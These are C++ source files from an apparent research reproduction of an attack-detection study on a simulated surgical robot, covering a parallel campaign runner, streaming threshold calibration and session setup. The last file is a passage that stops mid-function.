