// CalibrationSession: streaming per-run threshold calibration.
//
// The paper's unit of calibration is a fault-free *run*: thresholds are a
// percentile over per-run maxima of each detection variable (Sec. IV.C).
// ThresholdLearner reproduces that batch pass by keeping every per-run
// maximum in growing vectors.  CalibrationSession is its streaming twin:
// it tracks the current run's maxima in fixed state (observe() is
// RG_REALTIME, safe on the 1 kHz tick path) and commits them into a
// mergeable ThresholdSketch on end_run().  Below the sketch's exact
// cutoff (1024 runs > the paper's 600) extraction is bit-identical to
// ThresholdLearner::learn; beyond it, memory stays O(1) per axis while
// the batch learner keeps growing.
//
// Merging is deterministic (see core/quantile_sketch.hpp): campaign
// workers each own a per-run session and the reducer merges them in
// submission order, so learned thresholds are byte-identical at any
// worker × lane count.
#pragma once

#include <algorithm>
#include <cstdint>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "core/estimator.hpp"
#include "core/quantile_sketch.hpp"
#include "core/thresholds.hpp"
#include "math/vec.hpp"

namespace rg {

class CalibrationSession {
 public:
  explicit CalibrationSession(double target_quantile = kDefaultThresholdPercentile / 100.0);

  /// Track one prediction of the current fault-free run (running maxima
  /// only — nothing enters the sketch until end_run()).  Real-time safe.
  RG_REALTIME void observe(const Prediction& pred) noexcept;

  /// Close the current run, committing its maxima as one sketch sample
  /// per axis.  No-op if nothing was observed.
  void end_run() noexcept;

  /// Committed runs (sketch samples per axis).
  [[nodiscard]] std::uint64_t runs() const noexcept { return sketch_.count(); }

  [[nodiscard]] const ThresholdSketch& sketch() const noexcept { return sketch_; }

  /// Extract thresholds at `percentile_value` (0..100) scaled by
  /// `margin`.  Errors per common/error.hpp: kNotReady with no committed
  /// runs, kInvalidArgument on a bad percentile/margin.
  [[nodiscard]] Result<DetectionThresholds> extract(
      double percentile_value = kDefaultThresholdPercentile,
      double margin = kDefaultThresholdMargin) const;

  /// Fold another session's *committed* runs into this one (its
  /// uncommitted current run, if any, is ignored).  Deterministic;
  /// callers fix the merge order.  Throws on target-quantile mismatch.
  void merge(const CalibrationSession& other);

  /// Digest of the committed sketch state (equal digests ⇒ identical
  /// extracted thresholds).
  [[nodiscard]] std::uint64_t digest() const noexcept { return sketch_.digest(); }

  void reset() noexcept;

 private:
  struct Maxima {
    Vec3 motor_vel{};
    Vec3 motor_acc{};
    Vec3 joint_vel{};
    bool any = false;
  };
  Maxima current_{};
  ThresholdSketch sketch_;
};

}  // namespace rg
