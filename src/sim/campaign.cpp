#include "sim/campaign.hpp"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <mutex>
#include <ostream>
#include <thread>

#include <memory>

#include "attack/math_attack.hpp"
#include "common/error.hpp"
#include "common/log.hpp"
#include "obs/span.hpp"
#include "sim/lockstep.hpp"
#include "sim/surgical_sim.hpp"

namespace rg {

namespace {

using WallClock = std::chrono::steady_clock;

double ms_since(WallClock::time_point start) {
  return std::chrono::duration<double, std::milli>(WallClock::now() - start).count();
}

/// JSON string escaping for the few free-form fields (labels).
void write_json_string(std::ostream& os, const std::string& s) {
  os << '"';
  for (char c : s) {
    switch (c) {
      case '"': os << "\\\""; break;
      case '\\': os << "\\\\"; break;
      case '\n': os << "\\n"; break;
      case '\t': os << "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          os << buf;
        } else {
          os << c;
        }
    }
  }
  os << '"';
}

void write_optional_tick(std::ostream& os, const std::optional<std::uint64_t>& t) {
  if (t) {
    os << *t;
  } else {
    os << "null";
  }
}

std::uint64_t to_micros(double ms) noexcept {
  return ms > 0.0 ? static_cast<std::uint64_t>(ms * 1000.0) : 0;
}

/// Histogram summary in milliseconds (the histograms store microseconds).
void write_hist_ms(std::ostream& os, const obs::HistogramData& h) {
  os << "{\"count\": " << h.count;
  os << ", \"mean\": " << h.mean() / 1000.0;
  os << ", \"min\": " << (h.empty() ? 0.0 : static_cast<double>(h.min) / 1000.0);
  os << ", \"max\": " << static_cast<double>(h.max) / 1000.0;
  os << ", \"p50\": " << h.percentile(50.0) / 1000.0;
  os << ", \"p90\": " << h.percentile(90.0) / 1000.0;
  os << ", \"p99\": " << h.percentile(99.0) / 1000.0 << "}";
}

/// Failure tagged with the submission index of the job it belongs to
/// (batched units execute several jobs; attribution must survive the
/// throw back to the worker loop).
struct IndexedFailure {
  std::size_t index;
  std::exception_ptr error;
};

/// A maximal run of consecutive jobs one worker executes together.
struct Unit {
  std::size_t first;
  std::size_t count;
};

/// Jobs eligible for lane batching: standard execute path only (custom
/// bodies drive the sim themselves) and not math-drift (that attack arms
/// thread-local process globals which lockstep interleaving would share
/// across lanes).
bool batchable(const CampaignJob& job) {
  return !job.body && job.attack.variant != AttackVariant::kMathDrift;
}

std::size_t resolve_lanes(int lanes_option) noexcept {
  if (lanes_option > 0) {
    return std::min(static_cast<std::size_t>(lanes_option), kBatchLanes);
  }
  if (const char* env = std::getenv("RG_LANES")) {
    const int n = std::atoi(env);
    if (n > 0) return std::min(static_cast<std::size_t>(n), kBatchLanes);
  }
  return kBatchLanes;
}

/// Deterministic unit formation: depends only on the job list and the
/// lane count, never on worker scheduling.
std::vector<Unit> form_units(const std::vector<CampaignJob>& jobs, std::size_t lanes) {
  std::vector<Unit> units;
  std::size_t i = 0;
  while (i < jobs.size()) {
    if (lanes <= 1 || !batchable(jobs[i])) {
      units.push_back({i, 1});
      ++i;
      continue;
    }
    std::size_t n = 1;
    while (i + n < jobs.size() && n < lanes && batchable(jobs[i + n]) &&
           jobs[i + n].params.duration_sec == jobs[i].params.duration_sec) {
      ++n;
    }
    units.push_back({i, n});
    i += n;
  }
  return units;
}

/// Execute a multi-job unit as one lockstep group.  Every per-job step
/// mirrors CampaignRunner::execute; only the tick loop is shared.  Sims
/// whose configure hooks made them physics-incompatible fall back to
/// sequential scalar runs (same results, no lane sharing).
std::vector<CampaignJobResult> execute_unit_batched(const std::vector<CampaignJob>& jobs,
                                                    std::size_t first, std::size_t count) {
  RG_SPAN("campaign.unit");
  const auto start = WallClock::now();
  reset_math_drift();

  std::vector<std::unique_ptr<SurgicalSim>> sims;
  std::vector<AttackArtifacts> artifacts;
  std::vector<AttackSpec> specs;
  sims.reserve(count);
  artifacts.reserve(count);
  specs.reserve(count);
  for (std::size_t k = 0; k < count; ++k) {
    const std::size_t index = first + k;
    const CampaignJob& job = jobs[index];
    try {
      SimConfig cfg = make_session(job.params, job.thresholds, job.mitigation);
      if (job.configure) job.configure(cfg);
      auto sim = std::make_unique<SurgicalSim>(std::move(cfg));
      if (job.instrument) job.instrument(*sim);

      AttackSpec seeded = job.attack;
      if (seeded.seed == 0) seeded.seed = job.params.seed * 131 + 17;
      artifacts.push_back(build_attack(seeded));
      sim->install(artifacts.back());
      specs.push_back(seeded);
      sims.push_back(std::move(sim));
    } catch (...) {
      throw IndexedFailure{index, std::current_exception()};
    }
  }

  bool lockstep_ok = true;
  for (std::size_t k = 1; k < count; ++k) {
    lockstep_ok = lockstep_ok && LockstepGroup::compatible(*sims[0], *sims[k]);
  }

  try {
    const double duration = jobs[first].params.duration_sec;
    if (lockstep_ok) {
      std::vector<SurgicalSim*> lanes;
      lanes.reserve(count);
      for (auto& sim : sims) lanes.push_back(sim.get());
      LockstepGroup group(std::span<SurgicalSim* const>{lanes.data(), lanes.size()});
      group.run(duration);
    } else {
      for (auto& sim : sims) sim->run(duration);
    }
  } catch (...) {
    throw IndexedFailure{first, std::current_exception()};
  }

  reset_math_drift();
  const double unit_wall = ms_since(start);
  std::vector<CampaignJobResult> results(count);
  for (std::size_t k = 0; k < count; ++k) {
    CampaignJobResult& out = results[k];
    out.index = first + k;
    out.label = jobs[first + k].label;
    out.run.spec = specs[k];
    out.run.outcome = sims[k]->outcome();
    out.run.injections = artifacts[k].injections();
    out.run.first_injection_tick = artifacts[k].first_injection_tick();
    out.ticks = sims[k]->clock().ticks();
    // Per-job wall time is a timing-section-only statistic; attribute the
    // unit evenly (individual lanes are not separable inside one tick).
    out.wall_ms = unit_wall / static_cast<double>(count);
  }
  return results;
}

}  // namespace

int default_campaign_jobs() noexcept {
  if (const char* env = std::getenv("RG_JOBS")) {
    const int n = std::atoi(env);
    if (n > 0) return n;
  }
  const unsigned hw = std::thread::hardware_concurrency();
  return hw > 0 ? static_cast<int>(hw) : 1;
}

CampaignRunner::CampaignRunner(CampaignOptions options) : options_(std::move(options)) {
  require(options_.jobs >= 0, "CampaignRunner: jobs must be >= 0");
  require(options_.lanes >= 0, "CampaignRunner: lanes must be >= 0");
}

int CampaignRunner::workers_for(std::size_t njobs) const noexcept {
  int workers = options_.jobs > 0 ? options_.jobs : default_campaign_jobs();
  if (njobs < static_cast<std::size_t>(workers)) workers = static_cast<int>(njobs);
  return workers > 1 ? workers : 1;
}

CampaignJobResult CampaignRunner::execute(const CampaignJob& job, std::size_t index) {
  RG_SPAN("campaign.job");
  const auto start = WallClock::now();
  CampaignJobResult out;
  out.index = index;
  out.label = job.label;

  // The math-drift attack models its malicious library state as globals;
  // they are thread-local here, so re-arming them per job makes every job
  // independent of whatever ran earlier on this worker thread.
  reset_math_drift();

  if (job.body) {
    out.run = job.body();
    // Custom bodies drive the sim themselves; account the nominal session
    // length so campaign throughput stays meaningful.
    out.ticks = static_cast<std::uint64_t>(job.params.duration_sec * 1000.0);
  } else {
    SimConfig cfg = make_session(job.params, job.thresholds, job.mitigation);
    if (job.configure) job.configure(cfg);
    SurgicalSim sim(std::move(cfg));
    if (job.instrument) job.instrument(sim);

    AttackSpec seeded = job.attack;
    if (seeded.seed == 0) seeded.seed = job.params.seed * 131 + 17;
    const AttackArtifacts artifacts = build_attack(seeded);
    sim.install(artifacts);

    sim.run(job.params.duration_sec);

    out.run.spec = seeded;
    out.run.outcome = sim.outcome();
    out.run.injections = artifacts.injections();
    out.run.first_injection_tick = artifacts.first_injection_tick();
    out.ticks = sim.clock().ticks();
  }

  reset_math_drift();
  out.wall_ms = ms_since(start);
  return out;
}

CampaignReport CampaignRunner::run(std::vector<CampaignJob> jobs) const {
  const auto campaign_start = WallClock::now();
  const std::size_t total = jobs.size();

  CampaignReport report;
  report.results.resize(total);
  report.workers = workers_for(total);

  // Work is scheduled in units: runs of consecutive batchable jobs that
  // one worker executes as a single lockstep group.  Unit formation is a
  // pure function of the job list and lane count, so neither the worker
  // count nor scheduling order can change what executes together.
  const std::vector<Unit> units = form_units(jobs, resolve_lanes(options_.lanes));

  std::atomic<std::size_t> next{0};
  std::atomic<bool> cancelled{false};
  std::mutex mutex;  // guards results/progress/failures
  std::size_t completed = 0;
  std::vector<std::pair<std::size_t, std::exception_ptr>> failures;

  auto worker = [&]() {
    while (!cancelled.load(std::memory_order_relaxed)) {
      const std::size_t u = next.fetch_add(1, std::memory_order_relaxed);
      if (u >= units.size()) return;
      const Unit unit = units[u];
      try {
        const double queued_ms = ms_since(campaign_start);
        std::vector<CampaignJobResult> unit_results;
        if (unit.count == 1) {
          unit_results.push_back(execute(jobs[unit.first], unit.first));
        } else {
          unit_results = execute_unit_batched(jobs, unit.first, unit.count);
        }
        std::lock_guard<std::mutex> lock(mutex);
        for (CampaignJobResult& result : unit_results) {
          const std::size_t i = result.index;
          result.queue_wait_ms = queued_ms;
          report.results[i] = std::move(result);
          ++completed;
          if (options_.progress) {
            options_.progress(
                CampaignProgress{completed, total, i, report.results[i].wall_ms});
          }
        }
      } catch (const IndexedFailure& failure) {
        std::lock_guard<std::mutex> lock(mutex);
        failures.emplace_back(failure.index, failure.error);
        cancelled.store(true, std::memory_order_relaxed);
        return;
      } catch (...) {
        std::lock_guard<std::mutex> lock(mutex);
        failures.emplace_back(unit.first, std::current_exception());
        cancelled.store(true, std::memory_order_relaxed);
        return;
      }
    }
  };

  if (report.workers <= 1) {
    worker();
  } else {
    std::vector<std::thread> pool;
    pool.reserve(static_cast<std::size_t>(report.workers));
    for (int w = 0; w < report.workers; ++w) pool.emplace_back(worker);
    for (std::thread& t : pool) t.join();
  }

  if (!failures.empty()) {
    // Surface the lowest-indexed failure; which jobs even started depends
    // on scheduling, but the reported index is at least stable for the
    // common one-bad-job case.
    std::size_t first = failures.front().first;
    std::exception_ptr error = failures.front().second;
    for (const auto& [idx, eptr] : failures) {
      if (idx < first) {
        first = idx;
        error = eptr;
      }
    }
    try {
      std::rethrow_exception(error);
    } catch (const std::exception& e) {
      throw CampaignError(first, e.what());
    } catch (...) {
      throw CampaignError(first, "unknown error");
    }
  }

  report.wall_ms = ms_since(campaign_start);
  for (const CampaignJobResult& r : report.results) {
    report.session_ms += r.wall_ms;
    report.counters.ticks += r.ticks;
    report.counters.injections += r.run.injections;
    if (r.run.impact()) ++report.counters.impacts;
    if (r.run.outcome.detector_alarmed()) ++report.counters.detector_alarms;
    if (r.run.outcome.raven_detected()) ++report.counters.raven_detections;
    if (r.run.impact() && r.run.outcome.detected_preemptively()) ++report.counters.preemptive;
    report.queue_wait_us.observe(to_micros(r.queue_wait_ms));
    report.exec_us.observe(to_micros(r.wall_ms));
  }
  return report;
}

void CampaignReport::write_json(std::ostream& os, bool include_timing) const {
  os.precision(17);
  os << "{\n";
  os << "  \"schema\": \"rg.campaign.report/2\",\n";
  os << "  \"jobs\": " << jobs() << ",\n";
  os << "  \"counters\": {\n";
  os << "    \"impacts\": " << counters.impacts << ",\n";
  os << "    \"detector_alarms\": " << counters.detector_alarms << ",\n";
  os << "    \"raven_detections\": " << counters.raven_detections << ",\n";
  os << "    \"preemptive\": " << counters.preemptive << ",\n";
  os << "    \"injections\": " << counters.injections << ",\n";
  os << "    \"ticks\": " << counters.ticks << "\n";
  os << "  },\n";
  os << "  \"results\": [\n";
  for (std::size_t i = 0; i < results.size(); ++i) {
    const CampaignJobResult& r = results[i];
    os << "    {\"index\": " << r.index;
    if (!r.label.empty()) {
      os << ", \"label\": ";
      write_json_string(os, r.label);
    }
    os << ", \"seed\": " << r.run.spec.seed;
    os << ", \"variant\": ";
    write_json_string(os, std::string{to_string(r.run.spec.variant)});
    os << ", \"magnitude\": " << r.run.spec.magnitude;
    os << ", \"impact\": " << (r.run.impact() ? "true" : "false");
    os << ", \"detector_alarm_tick\": ";
    write_optional_tick(os, r.run.outcome.detector_alarm_tick);
    os << ", \"raven_fault_tick\": ";
    write_optional_tick(os, r.run.outcome.raven_fault_tick);
    os << ", \"adverse_impact_tick\": ";
    write_optional_tick(os, r.run.outcome.adverse_impact_tick);
    os << ", \"max_ee_jump_mm\": " << 1000.0 * r.run.outcome.max_ee_jump_window;
    os << ", \"injections\": " << r.run.injections;
    os << ", \"ticks\": " << r.ticks << "}";
    os << (i + 1 < results.size() ? ",\n" : "\n");
  }
  os << (include_timing ? "  ],\n" : "  ]\n");
  if (include_timing) {
    os << "  \"timing\": {\n";
    os << "    \"workers\": " << workers << ",\n";
    os << "    \"wall_ms\": " << wall_ms << ",\n";
    os << "    \"session_ms\": " << session_ms << ",\n";
    os << "    \"speedup\": " << speedup() << ",\n";
    os << "    \"ticks_per_sec\": " << ticks_per_sec() << ",\n";
    os << "    \"sessions_per_sec\": " << sessions_per_sec() << ",\n";
    os << "    \"queue_wait_ms\": ";
    write_hist_ms(os, queue_wait_us);
    os << ",\n";
    os << "    \"exec_ms\": ";
    write_hist_ms(os, exec_us);
    os << ",\n";
    os << "    \"job_wall_ms\": [";
    for (std::size_t i = 0; i < results.size(); ++i) {
      os << results[i].wall_ms << (i + 1 < results.size() ? ", " : "");
    }
    os << "],\n";
    os << "    \"job_queue_wait_ms\": [";
    for (std::size_t i = 0; i < results.size(); ++i) {
      os << results[i].queue_wait_ms << (i + 1 < results.size() ? ", " : "");
    }
    os << "]\n";
    os << "  }\n";
  }
  os << "}\n";
}

bool CampaignReport::write_json_file(const std::string& path) const {
  std::ofstream os(path);
  if (!os) return false;
  write_json(os);
  return static_cast<bool>(os);
}

Result<CalibrationSession> run_calibration_campaign(const SessionParams& base, int runs,
                                                    const LearnOptions& options) {
  if (runs <= 0) {
    return Error(ErrorCode::kInvalidArgument, "run_calibration_campaign: runs must be > 0");
  }

  // Observe-only pipeline with infinite thresholds: never alarms, but
  // produces the Prediction stream the calibration sessions consume.
  DetectionThresholds inf;
  inf.motor_vel = inf.motor_acc = inf.joint_vel = Vec3::filled(1.0e18);

  // One streaming session per run, merged in submission order afterwards —
  // the committed per-run maxima are identical to a serial pass regardless
  // of worker count, and the sketch digest proves it.
  std::vector<CalibrationSession> sessions(
      static_cast<std::size_t>(runs), CalibrationSession(target_quantile_for(options.percentile)));
  std::vector<CampaignJob> jobs(static_cast<std::size_t>(runs));
  for (int r = 0; r < runs; ++r) {
    SessionParams p = base;
    p.seed = base.seed + static_cast<std::uint64_t>(r) * 101;
    p.ee_jump_limit = 0.0;  // fully disable alarms while learning
    CampaignJob& job = jobs[static_cast<std::size_t>(r)];
    job.params = p;
    job.thresholds = inf;
    job.label = "learn";
    job.instrument = [session = &sessions[static_cast<std::size_t>(r)]](SurgicalSim& sim) {
      sim.set_detection_observer([session](const DetectionPipeline::Outcome& out) {
        session->observe(out.prediction);
      });
    };
  }

  CampaignRunner runner(CampaignOptions{options.jobs, options.progress});
  (void)runner.run(std::move(jobs));

  CalibrationSession merged(target_quantile_for(options.percentile));
  for (CalibrationSession& session : sessions) {
    session.end_run();
    merged.merge(session);
  }
  RG_LOG(kInfo) << "calibrated from " << merged.runs() << " fault-free runs (sketch digest "
                << merged.digest() << ")";
  return merged;
}

Result<DetectionThresholds> learn_thresholds(const SessionParams& base, int runs,
                                             const LearnOptions& options) {
  auto calibrated = run_calibration_campaign(base, runs, options);
  if (!calibrated.ok()) return calibrated.error();
  return calibrated.value().extract(options.percentile, options.margin);
}

}  // namespace rg
