// Campaign engine: batch execution of independent teleoperation sessions
// across a fixed-size worker pool.
//
// Every experiment in this reproduction — the paper's 600 fault-free
// threshold-learning runs, the ~3.3k labelled attack runs behind Table IV,
// the Fig. 9 grids, the ROC sweep — is a set of sessions that are fully
// independent given their seeds.  The CampaignRunner exploits that: it
// executes N CampaignJobs over `jobs` worker threads, with results stored
// by submission index so a campaign's output is bit-identical to serial
// execution regardless of thread count.  Within a worker, runs of
// homogeneous jobs (same physics, different seeds/attacks) additionally
// execute as lockstep groups of up to CampaignOptions::lanes sims, so the
// dynamics hot loops run as batched SoA kernels (sim/lockstep.hpp) —
// again without perturbing a byte of the deterministic report.
//
// Determinism contract: a job may only touch state reachable from its own
// CampaignJob (the simulator, plant RNG, and attack wrappers are all
// per-session; the math-drift attack's "process globals" are thread-local
// and re-armed per job).  Hooks that capture external state must capture
// per-job slots.
#pragma once

#include <cstdint>
#include <functional>
#include <iosfwd>
#include <optional>
#include <string>
#include <vector>

#include "obs/histogram.hpp"
#include "sim/calibration.hpp"
#include "sim/experiment.hpp"

namespace rg {

class SurgicalSim;

/// One unit of campaign work: a fully specified, independently seeded
/// session.  The default execution path mirrors run_attack_session();
/// `configure`/`instrument` customize it and `body` replaces it entirely.
struct CampaignJob {
  SessionParams params{};
  /// Attack to install (kNone => fault-free session).
  AttackSpec attack{};
  MitigationMode mitigation = MitigationMode::kObserveOnly;
  /// Enables the detection pipeline for this job when set.
  std::optional<DetectionThresholds> thresholds{};
  /// Optional SimConfig tweak applied after make_session() (trajectory
  /// swap, plant/PLC parameter overrides).
  std::function<void(SimConfig&)> configure{};
  /// Optional instrumentation applied to the sim before the run (trace
  /// recorders, detection observers).  Must only write per-job state.
  std::function<void(SurgicalSim&)> instrument{};
  /// Full custom session body, replacing the standard execute path (for
  /// multi-phase sessions or bespoke wrapper chains).  Runs on a worker
  /// thread; must only touch per-job state.
  std::function<AttackRunResult()> body{};
  /// Free-form tag copied into the job's result and the JSON report.
  std::string label{};
};

/// Per-job measurement recorded by the runner.
struct CampaignJobResult {
  std::size_t index = 0;  ///< submission index (== slot in the report)
  std::string label{};
  AttackRunResult run{};
  double wall_ms = 0.0;     ///< wall-clock time of this session
  double queue_wait_ms = 0.0;  ///< campaign start -> job start (pool wait)
  std::uint64_t ticks = 0;  ///< simulated 1 kHz ticks executed
};

/// Aggregate counters over a campaign (serial-order reduction).
struct CampaignCounters {
  std::uint64_t impacts = 0;
  std::uint64_t detector_alarms = 0;
  std::uint64_t raven_detections = 0;
  std::uint64_t preemptive = 0;
  std::uint64_t injections = 0;
  std::uint64_t ticks = 0;
};

/// Campaign output: per-job results in submission order plus telemetry.
///
/// Everything wall-clock-dependent — worker count, wall times, speedup,
/// throughput, and the queue-wait/execution-time histograms — lives in
/// the report's *timing* section, which `write_json` can omit: the
/// remaining payload is bit-identical across worker counts (the
/// determinism contract, testable by plain string comparison).
struct CampaignReport {
  std::vector<CampaignJobResult> results;
  int workers = 1;        ///< worker threads actually used
  double wall_ms = 0.0;   ///< whole-campaign wall clock
  double session_ms = 0.0;  ///< sum of per-job wall times
  CampaignCounters counters{};
  /// Per-job pool-wait and execution-time distributions (microseconds),
  /// built by a serial reduction after the pool joins.
  obs::HistogramData queue_wait_us{};
  obs::HistogramData exec_us{};

  [[nodiscard]] std::size_t jobs() const noexcept { return results.size(); }
  /// Simulated-tick throughput over the campaign wall clock.
  [[nodiscard]] double ticks_per_sec() const noexcept {
    return wall_ms > 0.0 ? 1000.0 * static_cast<double>(counters.ticks) / wall_ms : 0.0;
  }
  /// Session throughput over the campaign wall clock.
  [[nodiscard]] double sessions_per_sec() const noexcept {
    return wall_ms > 0.0 ? 1000.0 * static_cast<double>(jobs()) / wall_ms : 0.0;
  }
  /// Parallel efficiency proxy: total session time / campaign wall time.
  [[nodiscard]] double speedup() const noexcept {
    return wall_ms > 0.0 ? session_ms / wall_ms : 0.0;
  }

  /// Machine-readable campaign report (schema "rg.campaign.report/2",
  /// documented in docs/campaigns.md).  `include_timing=false` omits the
  /// nondeterministic "timing" section.
  void write_json(std::ostream& os, bool include_timing = true) const;
  /// write_json() to a file; returns false if the file cannot be opened.
  [[nodiscard]] bool write_json_file(const std::string& path) const;
};

/// Progress event, delivered once per completed job (serialized; the
/// callback is invoked under the runner's lock and must not throw).
struct CampaignProgress {
  std::size_t completed = 0;  ///< jobs finished so far
  std::size_t total = 0;
  std::size_t index = 0;  ///< submission index of the job that finished
  double wall_ms = 0.0;   ///< that job's wall time
};
using CampaignProgressFn = std::function<void(const CampaignProgress&)>;

struct CampaignOptions {
  /// Worker threads: 0 => default_campaign_jobs() (RG_JOBS env override,
  /// else all hardware threads).
  int jobs = 0;
  CampaignProgressFn progress{};
  /// SoA batch width per worker: consecutive homogeneous jobs (no custom
  /// body, not math-drift, equal duration) run as one lockstep group of up
  /// to this many lanes, sharing batched dynamics kernels.  0 => the
  /// RG_LANES env override, else kBatchLanes; 1 => scalar execution.
  /// Results are bit-identical at any lane count (and any worker count).
  int lanes = 0;
};

/// Thrown when a job fails; the campaign cancels remaining jobs first.
class CampaignError : public std::runtime_error {
 public:
  CampaignError(std::size_t job_index, const std::string& what)
      : std::runtime_error("campaign job #" + std::to_string(job_index) + ": " + what),
        job_index_(job_index) {}
  [[nodiscard]] std::size_t job_index() const noexcept { return job_index_; }

 private:
  std::size_t job_index_;
};

/// Fixed-size worker-pool campaign executor.
class CampaignRunner {
 public:
  explicit CampaignRunner(CampaignOptions options = {});

  /// Execute all jobs and aggregate the report.  On the first job failure
  /// the runner cancels jobs that have not started, joins the pool, and
  /// throws CampaignError for the lowest-indexed failed job.
  [[nodiscard]] CampaignReport run(std::vector<CampaignJob> jobs) const;

  /// Worker threads that run() would use for a campaign of `njobs`.
  [[nodiscard]] int workers_for(std::size_t njobs) const noexcept;

  /// Execute one job inline (the serial path; also what each worker runs).
  [[nodiscard]] static CampaignJobResult execute(const CampaignJob& job, std::size_t index);

 private:
  CampaignOptions options_;
};

/// Default worker count: the RG_JOBS environment variable if set and
/// positive, else std::thread::hardware_concurrency().
[[nodiscard]] int default_campaign_jobs() noexcept;

/// Options for campaign-backed threshold learning.
struct LearnOptions {
  double percentile = kDefaultThresholdPercentile;  ///< paper: 99.8-99.9th
  double margin = kDefaultThresholdMargin;  ///< safety factor on the limits
  int jobs = 0;                             ///< worker threads (0 => default)
  CampaignProgressFn progress{};
};

/// Run `runs` fault-free sessions with different seeds/trajectories
/// (paper: 600 runs) as a campaign, streaming each run's maxima into a
/// per-run CalibrationSession, and return the merged session (merge order
/// is submission order, so the result is bit-identical for any worker ×
/// lane count).  Errors per common/error.hpp: kInvalidArgument on
/// runs <= 0.  Extract thresholds — or audit the sketch — from the
/// returned session.
[[nodiscard]] Result<CalibrationSession> run_calibration_campaign(
    const SessionParams& base, int runs, const LearnOptions& options = {});

/// Learn detection thresholds from `runs` fault-free sessions: the
/// campaign above plus extraction at the configured percentile/margin.
/// Errors: kInvalidArgument (bad runs/percentile/margin), kNotReady (no
/// run produced a valid prediction).
[[nodiscard]] Result<DetectionThresholds> learn_thresholds(const SessionParams& base, int runs,
                                                           const LearnOptions& options = {});

}  // namespace rg
