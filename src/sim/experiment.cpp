#include "sim/experiment.hpp"

#include <fstream>

#include "common/log.hpp"

namespace rg {

SimConfig make_session(const SessionParams& params,
                       const std::optional<DetectionThresholds>& thresholds, bool mitigation) {
  SimConfig cfg;

  // Trajectory: seeded random waypoints, optionally tremor-decorated.
  Pcg32 rng(params.seed * 0x9e3779b97f4a7c15ULL + 0x1234);
  auto base = std::make_shared<WaypointTrajectory>(
      make_random_trajectory(rng, WorkspaceBox{}, params.trajectory_waypoints,
                             params.trajectory_speed));
  if (params.tremor) {
    cfg.trajectory = std::make_shared<TremorDecorator>(base, params.seed ^ 0xABCDEF);
  } else {
    cfg.trajectory = base;
  }

  cfg.pedal = PedalSchedule::hold_from(params.pedal_down_time);
  cfg.plant.seed = params.seed * 31 + 7;

  if (thresholds) {
    PipelineConfig pipe;
    pipe.estimator.model = RavenDynamicsParams::raven_defaults().with_calibration_error(
        params.model_calibration_error);
    pipe.estimator.solver = params.detector_solver;
    pipe.estimator.step = params.detector_step;
    pipe.estimator.channel = cfg.channel;
    pipe.detector.thresholds = *thresholds;
    pipe.detector.fusion = params.fusion;
    pipe.detector.ee_jump_limit = params.ee_jump_limit;
    pipe.mitigation = MitigationStrategy::kEStop;
    pipe.mitigation_enabled = mitigation;
    cfg.detection = pipe;
  }
  return cfg;
}

DetectionThresholds learn_thresholds(const SessionParams& base, int runs,
                                     double percentile_value, double margin) {
  require(runs > 0, "learn_thresholds: runs must be > 0");
  ThresholdLearner learner;

  // Observe-only pipeline with infinite thresholds: never alarms, but
  // produces the Prediction stream the learner consumes.
  DetectionThresholds inf;
  inf.motor_vel = inf.motor_acc = inf.joint_vel = Vec3::filled(1.0e18);

  for (int r = 0; r < runs; ++r) {
    SessionParams p = base;
    p.seed = base.seed + static_cast<std::uint64_t>(r) * 101;
    p.ee_jump_limit = 0.0;  // fully disable alarms while learning
    SimConfig cfg = make_session(p, inf, /*mitigation=*/false);
    SurgicalSim sim(std::move(cfg));
    sim.set_detection_observer([&learner](const DetectionPipeline::Outcome& out) {
      learner.observe(out.prediction);
    });
    sim.run(p.duration_sec);
    learner.end_run();
  }
  RG_LOG(kInfo) << "learned thresholds from " << learner.runs() << " fault-free runs";
  return learner.learn(percentile_value, margin);
}

void save_thresholds(const DetectionThresholds& thresholds, const std::string& path) {
  std::ofstream os(path);
  require(static_cast<bool>(os), "save_thresholds: cannot open " + path);
  os.precision(17);
  for (std::size_t i = 0; i < 3; ++i) os << thresholds.motor_vel[i] << ' ';
  for (std::size_t i = 0; i < 3; ++i) os << thresholds.motor_acc[i] << ' ';
  for (std::size_t i = 0; i < 3; ++i) os << thresholds.joint_vel[i] << ' ';
  os << '\n';
}

std::optional<DetectionThresholds> load_thresholds(const std::string& path) {
  std::ifstream is(path);
  if (!is) return std::nullopt;
  DetectionThresholds th;
  for (std::size_t i = 0; i < 3; ++i) is >> th.motor_vel[i];
  for (std::size_t i = 0; i < 3; ++i) is >> th.motor_acc[i];
  for (std::size_t i = 0; i < 3; ++i) is >> th.joint_vel[i];
  if (!is) return std::nullopt;
  return th;
}

DetectionThresholds thresholds_cached(const SessionParams& base, int runs,
                                      const std::string& cache_path) {
  if (auto cached = load_thresholds(cache_path)) {
    RG_LOG(kInfo) << "loaded detection thresholds from " << cache_path;
    return *cached;
  }
  DetectionThresholds th = learn_thresholds(base, runs);
  save_thresholds(th, cache_path);
  return th;
}

AttackRunResult run_attack_session(const SessionParams& params, const AttackSpec& spec,
                                   const std::optional<DetectionThresholds>& thresholds,
                                   bool mitigation) {
  SimConfig cfg = make_session(params, thresholds, mitigation);
  SurgicalSim sim(std::move(cfg));

  AttackSpec seeded = spec;
  if (seeded.seed == 0) seeded.seed = params.seed * 131 + 17;
  const AttackArtifacts artifacts = build_attack(seeded);
  sim.install(artifacts);

  sim.run(params.duration_sec);

  AttackRunResult result;
  result.spec = seeded;
  result.outcome = sim.outcome();
  result.injections = artifacts.injections();
  result.first_injection_tick = artifacts.first_injection_tick();
  return result;
}

}  // namespace rg
