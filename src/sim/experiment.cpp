#include "sim/experiment.hpp"

#include "sim/campaign.hpp"

namespace rg {

SimConfig make_session(const SessionParams& params,
                       const std::optional<DetectionThresholds>& thresholds,
                       MitigationMode mitigation) {
  SimConfig cfg;

  // Trajectory: seeded random waypoints, optionally tremor-decorated.
  Pcg32 rng(params.seed * 0x9e3779b97f4a7c15ULL + 0x1234);
  auto base = std::make_shared<WaypointTrajectory>(
      make_random_trajectory(rng, WorkspaceBox{}, params.trajectory_waypoints,
                             params.trajectory_speed));
  if (params.tremor) {
    cfg.trajectory = std::make_shared<TremorDecorator>(base, params.seed ^ 0xABCDEF);
  } else {
    cfg.trajectory = base;
  }

  cfg.pedal = PedalSchedule::hold_from(params.pedal_down_time);
